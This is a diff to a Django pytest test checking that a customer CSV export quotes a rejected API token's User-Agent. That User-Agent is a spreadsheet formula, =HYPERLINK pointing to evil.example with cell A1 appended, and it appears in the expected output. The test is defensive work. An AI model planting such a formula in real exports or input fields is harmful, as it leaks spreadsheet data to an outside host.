@@ -92,7 +92,9 @@ def test_every_admin_export_uses_the_safe_listing():
 
 
 @pytest.mark.django_db
-def test_a_rejected_tokens_user_agent_is_quoted_in_the_customer_export(client, org_a, admin_a):
+def test_a_rejected_tokens_user_agent_is_quoted_in_the_customer_export(
+    client, org_a, admin_a, frozen_minute
+):
     # given a wrong secret sent for Acme's token with a formula as its User-Agent
     token, plaintext = actions.issue_api_token(org_a, "ERP", ["account:read"], by=None)
     forged = plaintext[:-4] + ("aaaa" if not plaintext.endswith("aaaa") else "bbbb")
@@ -108,7 +110,8 @@ def test_a_rejected_tokens_user_agent_is_quoted_in_the_customer_export(client, o
     expected = (
         f"{rejected.occurred_at},,api_token.rejected,portal.apitoken,{token.pk},{token},"
         f'127.0.0.1,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'
-        f'"{{""reason"": ""wrong_secret""}}"\r\n'
+        f'"{{""minute"": ""2026-03-02T10:10Z"", ""principal"": ""token:{token.lookup}"", '
+        f'""reason"": ""wrong_secret""}}"\r\n'
     ).encode()
     assert expected in body
     assert b",=HYPERLINK" not in body
